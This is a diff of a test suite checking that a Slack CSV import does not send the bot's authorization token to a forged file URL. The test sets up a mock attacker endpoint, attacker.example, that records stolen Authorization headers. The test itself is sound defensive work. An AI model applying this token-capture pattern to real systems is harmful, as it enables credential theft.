@@ -217,13 +217,11 @@ describe('CSV import through Slack', () => {
     await app.send(slashCommand(s.office, '/spoc', 'import assets'));
     const form = (await until(() => open.calls[0], 'form')).view!;
     const stolen: string[] = [];
-    const evil = nock('https://attacker.example')
-      .persist()
-      .get(/.*/)
-      .reply(function () {
-        stolen.push(String(this.req.headers.authorization));
-        return [200, 'Tag\nPC-1'];
-      });
+    const evil = nock('https://attacker.example').persist().get(/.*/);
+    evil.reply(function () {
+      stolen.push(String(this.req.headers.authorization));
+      return [200, 'Tag\nPC-1'];
+    });
     const forged = {
       ...uploadedFile('F0FORGED1', 'devices.csv', 20),
       url_private: 'https://attacker.example/steal',
@@ -275,7 +273,7 @@ describe('CSV import through Slack', () => {
     expect(textOf(problem.view)).toContain('Slack would not give me the file');
 
     expect(stolen).toEqual([]);
-    expect(evil.isDone()).toBe(false);
+    nock.removeInterceptor(evil);
   });
 
   it('is office work: a teacher is told, not shown the form', async () => {
